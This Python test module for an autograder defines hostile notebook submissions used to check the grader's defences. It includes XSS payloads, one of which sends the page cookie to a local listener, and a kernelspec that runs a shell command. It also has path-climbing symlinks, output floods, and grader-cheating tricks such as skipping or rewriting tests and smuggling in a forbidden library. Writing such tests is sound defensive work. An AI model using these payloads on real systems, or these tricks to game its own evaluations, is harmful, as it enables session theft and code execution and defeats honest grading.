"""Hostile files: metadata, structure, the library's own answers, and what might run in the browser of a reader."""

from __future__ import annotations

from autograde.grading.attacks import Attack, everywhere, target

PASS = "def NAME(*a, **k): return 0"
SCRIPT = "<script>fetch('http://127.0.0.1:@PORT@/'+document.cookie)</script>"
PAGE = (
    SCRIPT + "<img src=x onerror=alert(1)><iframe srcdoc='<script>alert(2)</script>'></iframe><svg onload=alert(3)>"
    "<a href='javascript:alert(4)'>x</a><math><mtext><style><img src=x onerror=alert(5)></style></mtext></math>"
)
SHOW = f"""
from IPython.display import HTML, Javascript, SVG, Markdown, display, publish_display_data
page = {PAGE!r}
display(HTML(page)); display(Javascript('alert(6)')); display(Markdown(page)); print(page)
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(7)</script></svg>'))
publish_display_data({{'image/png': page, 'text/html': page, 'application/vnd.jupyter.widget-view+json': {{}}}})
publish_display_data({{'image/png': 'iVBORw0KGgo=" onerror="alert(8)', 'text/latex': page}})
print('\\x1b]8;;http://127.0.0.1:@PORT@/\\x07click\\x1b]8;;\\x07 \\x1b[2J')
class NAME(Exception):
    def __init__(self, *a): raise ValueError(page)
"""


def _cells(document: dict) -> dict[str, dict]:
    return {c["metadata"]["nbgrader"]["grade_id"]: c for c in document["cells"] if "nbgrader" in c["metadata"]}


def skip_tags(document: dict) -> None:
    """Tags that tell runners to skip the tests."""
    for cell in document["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "lab", "raises-exception", "remove_cell", "parameters"]


def richer(document: dict) -> None:
    """More points, and tests turned into answers."""
    for cell in _cells(document).values():
        cell["metadata"]["nbgrader"] |= {"points": 1000, "locked": False, "solution": True, "checksum": "0" * 32}


def no_tests(document: dict) -> None:
    """No tests at all."""
    document["cells"] = [c for c in document["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")]


def own_tests(document: dict) -> None:
    """Tests that always pass, twice, one of them worth its points as a value."""
    for name, cell in list(_cells(document).items()):
        if name.endswith("_check"):
            cell["source"] = "2.0"
            document["cells"].append(dict(cell, id=cell["id"] + "-2", source="2"))


def renamed(document: dict) -> None:
    """Tests called answers, answers called tests."""
    for name, cell in _cells(document).items():
        other = name.removesuffix("_check") if name.endswith("_check") else f"{name}_check"
        cell["metadata"]["nbgrader"]["grade_id"] = other
        cell["source"] = "pass"


def markdown_tests(document: dict) -> None:
    """Tests as prose, and as raw cells with outputs of their own."""
    for name, cell in _cells(document).items():
        if name.endswith("_check"):
            cell["cell_type"], cell["outputs"] = (
                "markdown",
                [{"output_type": "execute_result", "data": {"text/plain": "2"}}],
            )


def strange_fields(document: dict) -> None:
    """A kernel of their own, and fields of wrong types everywhere."""
    document["metadata"] = {"kernelspec": {"name": "evil", "argv": ["/bin/sh", "-c", "id"]}, "language_info": 7}
    for cell in document["cells"]:
        cell["metadata"]["nbgrader_extra"] = {"a": [[[[1]]]]}
        cell["id"] = ["x"]
        cell["attachments"] = SCRIPT


def page_in_prose(document: dict) -> None:
    """Scripts in markdown cells, in answers, in outputs that came with the file."""
    document["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": PAGE, "id": "p"})
    for cell in document["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": {"text/html": PAGE}, "metadata": {}}]


IMPORTED = """
from genmodels.core import log_mean_exp
def lse(x): return log_mean_exp(x, 0)
"""
BY_NAME = """
import importlib
def lse(x): return getattr(importlib.import_module('gen' + 'models.' + 'core'), 'log_mean' + '_exp')(x, 0)
"""
KEPT = """
import types, genmodels.core as library
kept = types.FunctionType(library.log_mean_exp.__code__, vars(library), 'kept', library.log_mean_exp.__defaults__)
kept.__kwdefaults__ = library.log_mean_exp.__kwdefaults__
def lse(x): return kept(x, 0)
"""
FROM_FILE = """
import genmodels, os, sys, inspect
def lse(x):
    folder = os.path.dirname(genmodels.__file__)
    for path in [folder + '/core.py', *[folder + '/__pycache__/' + n for n in os.listdir(folder + '/__pycache__')]]:
        try: text = open(path, 'rb').read()
        except OSError as e: print(path, e); continue
        if path.endswith('core.py'):
            space = {}; exec(text, space); return space['log_mean_exp'](x, 0)
    return inspect.getsource(genmodels.core.log_mean_exp)
"""
CHILD = """
import subprocess, sys, torch
def lse(x):
    code = ('import torch, sys; from genmodels.core import log_mean_exp;'
            'print(log_mean_exp(torch.tensor(eval(sys.argv[1])), 0).item())')
    done = subprocess.run([sys.executable, '-c', code, repr(x.tolist())], capture_output=True, text=True)
    return torch.tensor(float(done.stdout), dtype=torch.float64)
"""
WARM = """
import gc, types
def lse(x):
    for o in gc.get_objects():
        if isinstance(o, types.FunctionType) and o.__name__ == 'log_mean_exp': return o(x, 0)
"""

HONEST = {name: source for name, source in target.right().items() if name != "lse"}
FOUR = target.POINTS * len(HONEST)

ATTACKS = [
    Attack("skip-tags", "metadata", "tags that skip the tests", everywhere(PASS), edit=skip_tags),
    Attack("more-points", "metadata", "points and locks rewritten", everywhere(PASS), edit=richer),
    Attack("no-tests", "metadata", "the tests deleted", everywhere(PASS), edit=no_tests),
    Attack("own-tests", "metadata", "the tests rewritten and doubled", everywhere(PASS), edit=own_tests),
    Attack("renamed-cells", "metadata", "tests and answers exchanged", everywhere(PASS), edit=renamed),
    Attack("tests-as-prose", "metadata", "tests as markdown with outputs", everywhere(PASS), edit=markdown_tests),
    Attack("strange-fields", "metadata", "fields of wrong types", everywhere(PASS), edit=strange_fields),
    Attack(
        "links-and-names",
        "files",
        "links out of the folder, names that climb, a module called torch",
        everywhere(PASS),
        files={"torch.py": "allclose = 1", "genmodels/__init__.py": "x = 1", "<script>alert(9)</script>.txt": "x"},
        links={"gradebook": "@ROOT@/gradebook.db", "root": "/", "source": "@ROOT@/source"},
    ),
    Attack("page", "feedback page", "scripts in prose, outputs and errors", everywhere(SHOW), edit=page_in_prose),
    Attack(
        "page-by-name", "feedback page", "scripts in the student's name", everywhere(PASS), student="<script>alert(0)<"
    ),
    Attack("library-imported", "library", "the library's answer imported", HONEST | {"lse": IMPORTED}, earns=FOUR),
    Attack("library-by-name", "library", "the name put together", HONEST | {"lse": BY_NAME}, earns=FOUR),
    Attack("library-kept", "library", "its code kept before the test", HONEST | {"lse": KEPT}, earns=FOUR),
    Attack("library-from-file", "library", "its text read and run", HONEST | {"lse": FROM_FILE}, earns=FOUR),
    Attack("library-in-a-child", "library", "a fresh Python that imports it", HONEST | {"lse": CHILD}, earns=FOUR),
    Attack("library-from-the-heap", "library", "found by the garbage collector", HONEST | {"lse": WARM}, earns=FOUR),
    Attack("flood", "output", "text without end", {"double": "def double(x):\n    while True: print('x' * 10000)"}),
    Attack(
        "flood-below",
        "output",
        "bytes without end to descriptor 1",
        {"facts": "import os\ndef facts():\n    while True: os.write(1, b'y' * 65536)"},
    ),
]
